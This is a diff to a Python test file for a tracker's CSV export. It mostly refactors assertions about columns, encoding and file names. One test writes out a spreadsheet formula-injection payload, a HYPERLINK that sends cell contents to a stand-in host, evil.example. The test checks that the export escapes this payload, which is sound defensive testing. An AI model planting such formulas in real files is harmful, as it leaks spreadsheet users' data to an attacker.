@@ -9,7 +9,7 @@ import pytest
 from tests.support.small_dataset import said
 from tests.support.view_requests import FILES, ask, small
 from tracker.publishing.exports import csv_export as export_columns
-from tracker.publishing.exports.csv_export import ADDED_COLUMNS, RECOMMENDATION_COLUMNS, escape_formula, render_csv
+from tracker.publishing.exports.csv_export import ADDED_COLUMNS, escape_formula, render_csv
 from tracker.queries.tables.frames import Frames
 
 
@@ -26,29 +26,20 @@ def data(tmp_path):
 
 def test_a_row_a_recommendation_with_codes_whatever_the_language(data):
     wanted = ["id,title,status,direction,document_date,assessed", "themes", "permalink"]
-    assert rows(render_csv(ask(data, "ru", columns=wanted))) == [
-        ("id", "title", "status", "direction", "document_date", "assessed", "themes", "permalink"),
-        (
-            "x",
-            "Расширить программу",
-            "not-implemented",
-            "backward",
-            "2024-02",
-            "2025-03-04",
-            "health; drug-policy",
-            "https://tracker.example/r/x?lang=ru",
-        ),
-        ("y", "T", "not-assessed", "", "2024-03-28", "", "", "https://tracker.example/r/y?lang=ru"),
+    head, *found = rows(render_csv(ask(data, "ru", columns=wanted)))
+    assert head == tuple(",".join(wanted).split(","))
+    link, title = "https://tracker.example/r/{}?lang=ru", "Расширить программу"
+    assert found == [
+        ("x", title, "not-implemented", "backward", "2024-02", "2025-03-04", "health; drug-policy", link.format("x")),
+        ("y", "T", "not-assessed", "", "2024-03-28", "", "", link.format("y")),
     ]
 
 
 def test_excel_is_told_that_it_is_utf_8_and_rows_end_as_the_standard_says(data):
     answer = render_csv(ask(data, "ru", columns=["title"]))
     assert answer.body == "\ufefftitle\r\nРасширить программу\r\nT\r\n".encode()
-    assert (answer.media_type, answer.file_name) == (
-        "text/csv; charset=utf-8; header=present",
-        "recommendations-2026-06-18.csv",
-    )
+    assert answer.media_type == "text/csv; charset=utf-8; header=present"
+    assert answer.file_name == "recommendations-2026-06-18.csv"
 
 
 @pytest.mark.parametrize("hostile", ["", ",,,", "no-such", "id\x00", "title\n", "a," * 5_000])
@@ -63,18 +54,8 @@ def test_every_column_has_a_cell_for_every_recommendation(data):
     found = rows(render_csv(ask(data, columns=everything)))
     assert [len(row) for row in found] == [len(everything)] * 3
     told = dict(zip(everything, found[1], strict=True))
-    assert {
-        name: told[name]
-        for name in ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")
-    } == {
-        "state_status": "implemented",
-        "state_date": "2025",
-        "claim_gap": "2",
-        "evidence": "law",
-        "evidence_count": "1",
-        "stale": "yes",
-        "checked": "2025-03-04",
-    }
+    names = ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")
+    assert [told[name] for name in names] == ["implemented", "2025", "2", "law", "1", "yes", "2025-03-04"]
 
 
 @pytest.mark.parametrize(
@@ -97,13 +78,10 @@ def test_what_a_spreadsheet_would_run_is_only_text(typed, written):
 
 
 def test_a_title_that_is_a_formula_is_harmless_in_the_file(data):
-    evil = replace(data.recommendations["x"], title=said('=HYPERLINK("http://evil.example?"&A1)'))
-    there = replace(data, recommendations={"x": evil})
-    assert rows(render_csv(ask(there, columns=["title", "claim_gap", "assessed"])))[1] == (
-        '\'=HYPERLINK("http://evil.example?"&A1)',
-        "2",
-        "2025-03-04",
-    )
+    formula = '=HYPERLINK("http://evil.example?"&A1)'
+    there = replace(data, recommendations={"x": replace(data.recommendations["x"], title=said(formula))})
+    found = rows(render_csv(ask(there, columns=["title", "claim_gap", "assessed"])))
+    assert found[1] == (f"'{formula}", "2", "2025-03-04")
 
 
 def test_codes_are_unique_and_the_documented_columns_are_there(data):
@@ -118,4 +96,4 @@ def test_codes_are_unique_and_the_documented_columns_are_there(data):
         codes = [column.code for column in columns]
         assert sorted(codes) == sorted(set(codes))
         assert set(codes) - set(ADDED_COLUMNS) <= set(table.columns)
-    assert set(export_columns.DEFAULT_COLUMNS) <= {column.code for column in RECOMMENDATION_COLUMNS}
+    assert set(export_columns.DEFAULT_COLUMNS) <= {column.code for column in export_columns.RECOMMENDATION_COLUMNS}
